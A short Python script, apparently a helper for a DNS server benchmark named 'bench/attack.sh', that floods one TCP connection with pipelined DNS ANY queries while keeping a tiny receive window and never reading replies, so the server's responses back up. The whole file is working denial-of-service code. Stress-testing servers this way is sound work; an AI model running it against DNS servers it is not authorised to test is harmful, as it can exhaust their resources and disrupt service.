#!/usr/bin/env python3
# TCP DNS pipelining client for bench/attack.sh: one connection with a tiny
# receive window that writes queries for <name> as fast as the server takes them
# for <seconds> and never reads a reply, so the server's replies back up at once.
# Prints how many queries the server took before the time was up or it closed.
#   pipeline.py <host> <port> <name> <seconds>
import socket, struct, sys, time

host, port, name, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])

def query(qid):
    q = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'):
        if label: q += bytes([len(label)]) + label.encode('ascii')
    q += b'\0' + struct.pack('>HH', 255, 1)  # ANY, IN
    return struct.pack('>H', len(q)) + q

batch = b''.join(query(i) for i in range(512))
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # set before connect: the window stays small
s.connect((host, port))
s.settimeout(0.5)
end = time.monotonic() + secs
sent = 0
off = 0  # a send may take part of a batch: go on from there, so the framing holds
view = memoryview(batch)
why = 'time up'
while time.monotonic() < end:
    try:
        n = s.send(view[off:])
        sent += n
        off = (off + n) % len(batch)
    except socket.timeout:
        continue
    except OSError as e:
        why = e.strerror or str(e)
        break
print('client-sent %dq/%.1fMB,%s' % (sent // (len(batch) // 512), sent / 1048576, why.replace(' ', '-')))
s.close()
